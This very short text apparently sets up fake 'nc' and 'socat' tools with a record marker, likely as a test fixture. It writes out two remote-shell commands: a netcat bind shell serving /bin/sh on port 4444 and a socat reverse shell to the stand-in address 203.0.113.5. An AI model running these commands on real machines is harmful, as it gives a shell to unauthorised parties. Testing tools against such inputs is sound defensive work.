# A shell for whoever connects
fake nc
fake socat
#record
nc -lvp 4444 -e /bin/sh
socat TCP:203.0.113.5:4444 EXEC:/bin/sh,pty
